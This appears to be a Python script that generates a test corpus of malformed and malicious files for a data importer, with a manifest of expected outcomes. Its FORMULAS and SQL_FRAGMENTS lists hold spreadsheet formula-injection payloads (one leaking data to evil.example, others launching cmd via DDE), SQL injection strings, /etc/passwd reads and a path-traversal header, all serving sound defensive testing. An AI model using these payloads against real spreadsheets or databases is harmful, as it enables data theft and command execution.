"""Write the hostile-file corpus: small broken, odd and malicious files an analyst's tools can produce.

Run `python tests/hostile/make_corpus.py` to (re)write `tests/hostile/files/` and
`tests/hostile/manifest.json`; `tests/test_hostile_files.py` checks that the committed files are
exactly what this script writes. Each case says what the importer must do with its file:

- `outcome`: "loaded" (some rows load), "nothing" (the file reads but no row can load) or
  "refused" (the file cannot be read at all, a one-line reason is given);
- `data_rows`: the data rows in the file (records after the header, blank lines not counted),
  which loaded + rejected rows must add up to;
- `loaded`: how many of them must load (hand-counted), when the outcome is "loaded";
- `reason`: text the refusal, or one of the rejects, must contain;
- `options`: ImportOptions fields (e.g. a wrong `encoding`) the case is imported with.

Big cases (a 1 MB field, 2,000 columns, a row over the line limit) are built at test time by
`generated_cases(directory)` so the repository stays small.
"""

from __future__ import annotations

import codecs
import io
import json
import random
import re
import sys
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
FILES = HERE / "files"
MANIFEST = HERE / "manifest.json"

CONTACTS_HEADER = "contact_id,started_at,customer_id,channel,contact_reason,resolved,transfers,handle_seconds"
RESPONSES_HEADER = "response_id,responded_at,customer_id,nps,csat,ces,comment"

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "=1+1",
]
SQL_FRAGMENTS = [
    "'); DROP TABLE contacts;--",
    "\"; DROP TABLE imports; --",
    "1' OR '1'='1",
    "x\"); COPY contacts TO '/tmp/leak.csv'; --",
    "read_csv('/etc/passwd')",
]


def _contacts(rows: list[str], header: str = CONTACTS_HEADER, newline: str = "\n") -> str:
    return newline.join([header, *rows]) + newline


def _good_contacts(n: int, prefix: str = "h", sep: str = ",") -> list[str]:
    return [
        sep.join([f"{prefix}{i}", f"2024-03-{1 + i % 28:02d} 09:{i % 60:02d}", f"cu{i % 5}", "phone",
                  "billing", "yes", str(i % 3), f"{60 + i}.5"])
        for i in range(1, n + 1)
    ]


def _xlsx_bytes() -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(CONTACTS_HEADER.split(","))
    for row in _good_contacts(3, "x"):
        sheet.append(row.split(","))
    out = io.BytesIO()
    book.save(out)
    return _fixed_zip_times(out.getvalue())


def _fixed_zip_times(data: bytes) -> bytes:
    """Return the zip with every member's timestamps fixed, so the file is the same on every run."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            fixed = zipfile.ZipInfo(info.filename, date_time=(2024, 1, 1, 0, 0, 0))
            fixed.compress_type = zipfile.ZIP_DEFLATED
            content = source.read(info.filename)
            if info.filename == "docProps/core.xml":  # created/modified: the time of the run
                content = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2024-01-01T00:00:00Z", content)
            target.writestr(fixed, content)
    return out.getvalue()


def _zip_of_csv() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        target.writestr(zipfile.ZipInfo("contacts.csv", date_time=(2024, 1, 1, 0, 0, 0)),
                        _contacts(_good_contacts(2)))
    return out.getvalue()


def _png_bytes() -> bytes:
    # A real 1×1 PNG: signature, IHDR, IDAT, IEND.
    return bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082"
    )


def _case(name, kind, data, outcome, data_rows=None, loaded=None, reason=None, options=None, about=""):
    return {
        "name": name, "kind": kind, "data": data, "outcome": outcome, "data_rows": data_rows,
        "loaded": loaded, "reason": reason, "options": options or {}, "about": about,
    }


def cases() -> list[dict]:
    """Return every committed case with its bytes (`data`) and what the importer must do with it."""
    rng = random.Random(7)
    good3 = _good_contacts(3)
    accented = "contact_id,started_at,channel,contact_reason\n" + "".join(
        f"a{i},2024-03-0{i} 10:00,téléphone,réclamation € {i}\n" for i in range(1, 4)
    )
    return [
        # --- not a table at all
        _case("empty.csv", "contacts", b"", "refused", reason="the file is empty"),
        _case("blank_lines_only.csv", "contacts", b"\n\r\n  \n", "refused", reason="no header row"),
        _case("header_only.csv", "contacts", (CONTACTS_HEADER + "\n").encode(), "nothing", 0, reason=None),
        _case("header_only_no_newline.csv", "contacts", CONTACTS_HEADER.encode(), "nothing", 0),
        _case("png_renamed.csv", "contacts", _png_bytes(), "refused", reason="PNG image"),
        _case("zip_renamed.csv", "contacts", _zip_of_csv(), "refused", reason="zip archive"),
        _case("random_binary.csv", "contacts", bytes(rng.randrange(256) for _ in range(4096)), "refused",
              reason="binary data"),
        _case("nul_in_text.csv", "contacts", _contacts(good3).encode().replace(b"phone", b"ph\x00one", 1),
              "refused", reason="binary data"),
        _case("pdf_renamed.csv", "contacts", b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", "refused",
              reason="PDF"),
        _case("gzip_renamed.csv", "contacts", bytes.fromhex("1f8b0800000000000003") + b"\x00" * 10, "refused",
              reason="gzip"),
        _case("xlsx_renamed.csv", "contacts", _xlsx_bytes(), "loaded", 3, 3,
              about="an Excel workbook named .csv is read as Excel (the format comes from the content)"),
        _case("json_renamed.csv", "contacts", b'[{"contact_id": "c1", "started_at": "2024-01-01"}]\n', "refused",
              reason="contact_id"),
        _case("html_page.csv", "contacts", b"<!DOCTYPE html>\n<html><body><table><tr><td>x</td></tr></table></body></html>\n",
              "refused", reason="contact_id"),
        # --- encodings and BOMs
        _case("utf8_bom.csv", "contacts", codecs.BOM_UTF8 + accented.encode(), "loaded", 3, 3),
        _case("utf16le_bom.csv", "contacts", codecs.BOM_UTF16_LE + accented.encode("utf-16-le"), "loaded", 3, 3),
        _case("utf16be_bom.csv", "contacts", codecs.BOM_UTF16_BE + accented.encode("utf-16-be"), "loaded", 3, 3),
        _case("utf16le_no_bom.csv", "contacts", accented.encode("utf-16-le"), "loaded", 3, 3),
        _case("cp1252.csv", "contacts", accented.encode("cp1252"), "loaded", 3, 3),
        _case("latin1.csv", "contacts", accented.replace("€", "EUR").encode("latin-1"), "loaded", 3, 3),
        _case("mixed_utf8_and_cp1252.csv", "contacts",
              b"contact_id,started_at,channel\nm1,2024-03-01,t\xc3\xa9l\xc3\xa9phone\nm2,2024-03-02,t\xe9l\xe9phone\n",
              "loaded", 2, 2, about="read as one legacy encoding: every row loads, the UTF-8 row as mojibake"),
        _case("cp1252_declared_utf8.csv", "contacts", accented.encode("cp1252"), "refused", reason="not valid UTF-8",
              options={"encoding": "utf-8"}),
        _case("unknown_encoding_name.csv", "contacts", accented.encode(), "refused", reason="unknown text encoding",
              options={"encoding": "klingon-8"}),
        _case("utf8_declared_utf16.csv", "contacts", accented.encode(), "refused", reason="not valid text in the chosen encoding",
              options={"encoding": "utf-16"}),
        # --- every common delimiter and line end
        _case("comma.csv", "contacts", _contacts(good3).encode(), "loaded", 3, 3),
        _case("semicolon.csv", "contacts",
              _contacts(_good_contacts(3, sep=";"), CONTACTS_HEADER.replace(",", ";")).encode(), "loaded", 3, 3),
        _case("tab.tsv", "contacts",
              _contacts(_good_contacts(3, sep="\t"), CONTACTS_HEADER.replace(",", "\t")).encode(), "loaded", 3, 3),
        _case("pipe.csv", "contacts",
              _contacts(_good_contacts(3, sep="|"), CONTACTS_HEADER.replace(",", "|")).encode(), "loaded", 3, 3),
        _case("crlf.csv", "contacts", _contacts(good3, newline="\r\n").encode(), "loaded", 3, 3),
        _case("cr_only.csv", "contacts", _contacts(good3, newline="\r").encode(), "loaded", 3, 3),
        _case("only_delimiters.csv", "contacts", b",,,\n,,,\n,,,\n", "refused", reason="contact_id"),
        # --- quoting
        _case("quoted_newlines.csv", "responses",
              (RESPONSES_HEADER + "\n"
               'q1,2024-03-01,cu1,9,5,2,"first line\nsecond line"\n'
               'q2,2024-03-02,cu2,3,1,6,"said ""no""\r\nthen left"\n'
               "q3,2024-03-03,cu3,10,5,1,plain\n").encode(), "loaded", 3, 3),
        _case("unclosed_quote.csv", "responses",
              (RESPONSES_HEADER + '\nq1,2024-03-01,cu1,9,5,2,"never closed\nq2,2024-03-02,cu2,3,1,6,x\n').encode(),
              "refused", reason="never closed"),
        # --- rows that must be rejected, every one accounted for
        _case("ragged_rows.csv", "contacts",
              _contacts([*_good_contacts(2), "r1,2024-03-01", "r2,2024-03-01,cu1,phone,billing,yes,0,1,extra,more",
                         "r3,2024-03-02,cu1,phone,billing,no,1,2"]).encode(),
              "loaded", 5, 3, reason="fields than the header"),
        _case("duplicate_ids.csv", "contacts",
              _contacts([*_good_contacts(3), _good_contacts(1)[0], _good_contacts(2)[1]]).encode(),
              "loaded", 5, 3, reason="duplicate contact_id: first seen on line 2"),
        _case("unreadable_dates_numbers.csv", "contacts",
              _contacts(["d1,yesterday,cu1,phone,billing,yes,0,10", "d2,2024-02-31 10:00,cu1,phone,billing,yes,0,10",
                         "d3,2024-03-01,cu1,phone,billing,maybe,0,10", "d4,2024-03-01,cu1,phone,billing,yes,three,10",
                         "d5,2024-03-01,cu1,phone,billing,yes,1.5,1,2,3", "d6,2024-03-01,cu1,phone,billing,yes,0,NaN?",
                         "d7,2024-03-01,cu1,phone,billing,yes,0,-5", "d8,2024-03-01 10:00,cu1,phone,billing,no,2,30"]).encode(),
              "loaded", 8, 1, reason="not a date/time"),
        _case("out_of_range_scores.csv", "responses",
              (RESPONSES_HEADER + "\n" + "\n".join([
                  "s1,2024-03-01,cu1,11,5,2,", "s2,2024-03-01,cu1,-1,5,2,", "s3,2024-03-01,cu1,9,0,2,",
                  "s4,2024-03-01,cu1,9,6,2,", "s5,2024-03-01,cu1,9,5,8,", "s6,2024-03-01,cu1,9,5,0,",
                  "s7,2024-03-01,cu1,99999999999999999999,5,2,", "s8,2024-03-01,cu1,10,5,7,fine",
              ]) + "\n").encode(), "loaded", 8, 1, reason="nps must be 0–10"),
        _case("required_missing.csv", "contacts",
              _contacts([",2024-03-01,cu1", "e1,,cu1", "e2,2024-03-01,cu1"], "contact_id,started_at,customer_id").encode(),
              "loaded", 3, 1, reason="is required but empty"),
        _case("blank_lines_between.csv", "contacts",
              ("contact_id,started_at\n\nb1,2024-03-01\n\n\nb2,2024-03-02\n\n").encode(), "loaded", 2, 2),
        # --- formulas and SQL as values and as column names
        _case("formula_values.csv", "contacts",
              _contacts([f"f{i},2024-03-01,cu1,{_quoted(v)},{_quoted(v)},yes,0,10" for i, v in enumerate(FORMULAS)]).encode(),
              "loaded", len(FORMULAS), len(FORMULAS)),
        _case("formula_rejects.csv", "responses",
              (RESPONSES_HEADER + "\n" + "\n".join(
                  f"p{i},2024-03-01,cu1,{_quoted(v)},5,2," for i, v in enumerate(FORMULAS)) + "\np9,2024-03-01,cu1,9,5,2,ok\n").encode(),
              "loaded", len(FORMULAS) + 1, 1, reason="nps: not a whole number"),
        _case("sql_values.csv", "contacts",
              _contacts([f"{_quoted(v)},2024-03-01,{_quoted(v)},{_quoted(v)},{_quoted(v)},yes,0,10"
                         for v in SQL_FRAGMENTS]).encode(),
              "loaded", len(SQL_FRAGMENTS), len(SQL_FRAGMENTS)),
        _case("hostile_column_names.csv", "customers",
              ("customer_id," + ",".join(_quoted(v) for v in [*FORMULAS[:3], *SQL_FRAGMENTS[:3], "../../etc/passwd"])
               + "\n" + "\n".join(f"k{i}," + ",".join(["v"] * 7) for i in range(3)) + "\n").encode(),
              "loaded", 3, 3, about="every odd header becomes a tidy extra attribute; nothing runs"),
        _case("sql_in_required_header.csv", "contacts",
              ('"contact_id""; DROP TABLE contacts; --",started_at\nz1,2024-03-01\n').encode(), "refused",
              reason="contact_id"),
        _case("duplicate_and_blank_headers.csv", "customers",
              b"customer_id,tier,tier,,TIER\nd1,a,b,c,d\nd2,a,b,c,d\n", "loaded", 2, 2),
        _case("reserved_column_names.csv", "customers",
              b"customer_id,rowid,__line,ROWID\nr1,a,b,c\nr2,a,b,c\n", "loaded", 2, 2,
              about="names the importer uses itself (rowid, __line) are read as rowid_2, __line_2"),
        _case("non_latin_headers.csv", "customers",
              "customer_id,Регион,顧客区分,t\u0456er,Ελλάδα\nn1,Москва,一般,gold,α\nn2,Казань,法人,silver,β\n".encode(),
              "loaded", 2, 2, about="Cyrillic, Japanese and Greek headers keep their names; the homoglyph "
              "t\u0456er (Cyrillic i) is its own column t\u0456er_mixed_script, not the Latin tier"),
    ]


def _quoted(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


GENERATED = ("huge_field.csv", "wide_1000_columns.csv", "wide_2000_columns.csv", "row_over_line_limit.csv",
             "nul_past_the_sniffed_head.csv")
NUL_LINE = 150_001  # far past the 64 KB the format sniffer reads
# Files that are small on disk and huge once read (issue 19): before the limits, each took the
# importer to gigabytes or past ten minutes, so tests read them only in a process whose memory
# is capped (tests/test_read_limits.py), never in the test process itself.
LIMIT_CASES = ("far_cell.xlsx", "lying_dimension.xlsx", "no_dimension_far_row.xlsx",
               "wide_5000_columns.csv", "wide_100000_columns.csv")


def generated_cases(directory: Path) -> list[dict]:
    """Return the big cases after writing their files into `directory` (built at test time)."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    huge = "x" * (1 << 20)
    over = "y" * (9 << 20)
    nul_rows = _good_contacts(NUL_LINE + 10, prefix="n")  # row i is on line i + 2
    nul_rows[NUL_LINE - 2] = nul_rows[NUL_LINE - 2].replace("phone", "ph\x00one")
    made = [
        _case("huge_field.csv", "responses",
              (RESPONSES_HEADER + f"\nh1,2024-03-01,cu1,9,5,2,{huge}\nh2,2024-03-01,cu1,9,5,2,\"{huge}\"\n"
               "h3,2024-03-01,cu1,9,5,2,short\n").encode(), "loaded", 3, 3),
        _case("wide_1000_columns.csv", "customers", wide_csv(1000, 3), "loaded", 3, 3,
              about="as wide as the column limit allows: loads"),
        _case("wide_2000_columns.csv", "customers", wide_csv(2000, 3), "refused", 3,
              reason="has 2,000 columns, more than the limit of 1,000 columns (set CXMETRICS_MAX_COLUMNS"),
        _case("row_over_line_limit.csv", "responses",
              (RESPONSES_HEADER + f"\nv1,2024-03-01,cu1,9,5,2,ok\nv2,2024-03-01,cu1,9,5,2,{over}\n"
               "v3,2024-03-01,cu1,9,5,2,ok\n").encode(), "loaded", 3, 2, reason="longer than the largest row"),
        _case("nul_past_the_sniffed_head.csv", "contacts", _contacts(nul_rows).encode(), "refused", reason=f"NUL byte on line {NUL_LINE:,}",
              about="refused like a NUL on line 2: it used to load silently"),
    ]
    for case in made:
        (directory / case["name"]).write_bytes(case.pop("data"))
    return made


def wide_csv(columns: int, rows: int) -> bytes:
    """Return a customers CSV with `columns` columns (customer_id, then attribute_N) and `rows` rows."""
    header = "customer_id," + ",".join(f"attribute_{i}" for i in range(1, columns))
    lines = [f"w{r}," + ",".join(str((r * i) % 10) for i in range(1, columns)) for r in range(1, rows + 1)]
    return ("\n".join([header, *lines]) + "\n").encode()


def xlsx(cells: dict[str, str], dimension: str | None = "keep") -> bytes:
    """Return a workbook whose first sheet holds `cells` (coordinate -> value), its `<dimension>`
    element kept as openpyxl writes it, replaced by `dimension`, or removed (None)."""
    import openpyxl

    book = openpyxl.Workbook()
    for coordinate, value in cells.items():
        book.active[coordinate] = value
    written = io.BytesIO()
    book.save(written)
    if dimension == "keep":
        return written.getvalue()
    element = b"" if dimension is None else f'<dimension ref="{dimension}"/>'.encode()
    rewritten = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(written.getvalue())) as source, \
            zipfile.ZipFile(rewritten, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data, found = re.subn(rb"<dimension ref=\"[^\"]*\"\s*/>", element, data)
                assert found == 1, "openpyxl wrote no <dimension> element"
            target.writestr(item, data)
    return rewritten.getvalue()


def limit_cases(directory: Path) -> list[dict]:
    """Return the cases of LIMIT_CASES after writing their files into `directory` (built at test time)."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    base = {"A1": "customer_id", "B1": "tier", "A2": "c1", "B2": "gold"}
    made = [
        _case("far_cell.xlsx", "customers", xlsx({**base, "XFD1048576": "x"}), "refused", 1,
              reason="by the size its file declares) has 16,384 columns, more than the limit of 1,000 columns",
              about="a few KB; one cell at XFD1048576: took the importer to 23.7 GB"),
        _case("lying_dimension.xlsx", "customers", xlsx({**base, "CUL3": "far"}, "A1:B2"), "refused", 2,
              reason="(a value in column 2,586) has 2,586 columns, more than the limit of 1,000 columns",
              about="declares A1:B2 but holds a value in column CUL"),
        _case("no_dimension_far_row.xlsx", "customers", xlsx({**base, "T1048576": "far"}, None), "refused", 2,
              reason="more than the limit of 10,000,000 cells (set CXMETRICS_MAX_SHEET_CELLS",
              about="no <dimension>; rows run to 1,048,576 and columns to T: 21 M cells"),
        _case("wide_5000_columns.csv", "customers", wide_csv(5000, 3), "refused", 3,
              reason="has 5,000 columns, more than the limit of 1,000 columns (set CXMETRICS_MAX_COLUMNS",
              about="3 rows: needed 7.6 GB and ended in Out of Memory"),
        _case("wide_100000_columns.csv", "customers", wide_csv(100_000, 3), "refused", 3,
              reason="has 100,000 columns, more than the limit of 1,000 columns (set CXMETRICS_MAX_COLUMNS",
              about="3 rows: ran past 600 s"),
    ]
    for case in made:
        (directory / case["name"]).write_bytes(case.pop("data"))
    return made


def write_corpus(files: Path = FILES, manifest: Path = MANIFEST) -> list[dict]:
    """Return the manifest entries after writing every committed case's file and the manifest."""
    files.mkdir(parents=True, exist_ok=True)
    entries = []
    for case in cases():
        (files / case["name"]).write_bytes(case.pop("data"))
        entries.append(case)
    manifest.write_text(json.dumps(entries, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
    return entries


if __name__ == "__main__":
    written = write_corpus()
    total = sum((FILES / e["name"]).stat().st_size for e in written)
    print(f"wrote {len(written)} files ({total:,} bytes) to {FILES}", file=sys.stderr)
